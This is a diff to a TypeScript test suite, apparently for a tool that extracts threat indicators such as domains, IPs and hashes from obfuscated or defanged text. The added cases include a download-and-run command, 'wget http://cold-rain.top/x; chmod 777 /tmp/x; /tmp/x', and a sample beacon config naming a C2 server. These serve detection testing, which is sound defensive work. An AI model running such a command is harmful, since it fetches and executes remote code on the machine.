@@ -27,6 +27,15 @@ const DRESSES: readonly Case[] = [
   ['the word between underscores', 'cold-rain_dot_com', 'indicator domain cold-rain.com'],
   ['the word between hyphens', 'panel-dot-cold-rain-dot-com', 'indicator domain panel.cold-rain.com'],
   ['the word in names of other things', 'a-dot-matrix printer, the dot com bubble, x_dot_product, connect the dot net'],
+  ['a blank before the dot in an address', 'hxxp://cold-rain .com/path/a.php', 'indicator url http://cold-rain.com/path/a.php'],
+  [
+    'a dot in codes',
+    'cold-rain%2Ecom, cold-rain\\u002ecom and cold-rain\\x2ecom',
+    'indicator domain cold-rain.com',
+    'indicator domain cold-rain.com',
+    'indicator domain cold-rain.com',
+  ],
+  ['a part that programs fill in', '%s.cold-rain[.]top and <id>.cold-rain[.]top', 'indicator domain cold-rain.top', 'indicator domain cold-rain.top'],
   ['the ending alone in brackets', 'cold-rain.[top]', 'indicator domain cold-rain.top'],
   ['letters as wide as East Asian ones', 'Ｃ２：ｃｏｌｄｒａｉｎ．ｔｏｐ', 'indicator domain coldrain.top'],
   ['mail with underscores', 'joe_at_cold-rain.com', 'indicator email joe@cold-rain.com'],
@@ -91,7 +100,10 @@ const NUMBERS: readonly Case[] = [
   ['an escaped line break between', '45.137.21.9\\n45.137.21.10', 'indicator ipv4 45.137.21.9', 'indicator ipv4 45.137.21.10'],
   ['IPv6 with colons in braces', '2a0d{:}5600{:}24{:}a1::7', 'indicator ipv6 2a0d:5600:24:a1::7'],
   ['numbers of objects and sections', 'SNMP OID 1.3.6.1.2.1.1.1.0 and .1.3.6.1.4.1.9; Section 1.2.3.4, Table 4.5, $1.234.567,89, 10.1.2024'],
-  ['versions of products', '.NET Framework 4.0.30319.1, Java 1.8.0_201, Office 16.0.14326.20454, Adobe Acrobat 23.1.2.3, Windows 10.0.17763.1 (RS5)'],
+  [
+    'versions of products',
+    '.NET Framework 4.0.30319.1, Java 1.8.0_201, Office 16.0.14326.20454, Adobe Acrobat 23.1.2.3, Windows 10.0.17763.1 (RS5), kernel 5.15.0.91, Tomcat 9.0.85.1',
+  ],
 ];
 
 const DIGESTS: readonly Case[] = [
@@ -103,6 +115,7 @@ const DIGESTS: readonly Case[] = [
   ['groups of sixteen', `SHA256: ${groups(SHA256, 16, ' ')}`, `indicator sha256 ${SHA256}`],
   ['two halves in a cell', `| sha256 | ${groups(SHA256, 32, ' ')} |`, `indicator sha256 ${SHA256}`],
   ['a hyphen where the line ends', `${SHA256.slice(0, 40)}-\n${SHA256.slice(40)}`, `indicator sha256 ${SHA256}`],
+  ['invisible characters within', `${MD5.slice(0, 8)}\u200b${MD5.slice(8, 20)}\u00ad${MD5.slice(20)}`, `indicator md5 ${MD5}`],
   ['a prefix', `sha256:${SHA256} SHA256-${SHA256.toUpperCase()}`, `indicator sha256 ${SHA256}`, `indicator sha256 ${SHA256}`],
   ['a dump of bytes', '00000000  4d 5a 90 00 03 00 00 00  04 00 00 00 ff ff 00 00\n4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff 00 00'],
   ['keys', `AES key: ${groups(MD5, 2, ':')}, the XOR key ${MD5}`, `reference md5 ${MD5}`],
@@ -143,6 +156,14 @@ const OTHERS: readonly Case[] = [
   ['files of projects', 'settings.json, package.json, app.config, web.config, index.d.ts, style.min.css, setup.exe.config'],
   ['abbreviations', 'St.Petersburg, Ph.D., U.S.A., e.g.this, etc.and, a.k.a.the, No.1'],
   ['libraries', 'libssl.so.1.1, python3.11, user@2x.png and kernel32.dll!CreateFileA', 'indicator file kernel32.dll'],
+  ['what a command loads', 'wget http://cold-rain.top/x; chmod 777 /tmp/x; /tmp/x', 'indicator url http://cold-rain.top/x'],
+  [
+    'settings of a beacon',
+    '{"C2Server": "cold-rain.top,/j-3.3.1.min.js", "HttpPostUri": "/j-3.3.2.min.js"}',
+    'indicator domain cold-rain.top',
+    'indicator uri-path /j-3.3.1.min.js',
+    'indicator uri-path /j-3.3.2.min.js',
+  ],
   ['cells of a page', '<td>cold-rain[.]top</td><td>45.137.21[.]9</td>', 'indicator domain cold-rain.top', 'indicator ipv4 45.137.21.9'],
   ['a question to a server of names', 'nslookup cold-rain.top 8.8.8.8', 'indicator domain cold-rain.top', 'benign ipv4 8.8.8.8'],
   ['a registrar in prose', 'cold-rain[.]top, registered at Namecheap.com on 2024-03-01', 'indicator domain cold-rain.top', 'reference domain namecheap.com'],
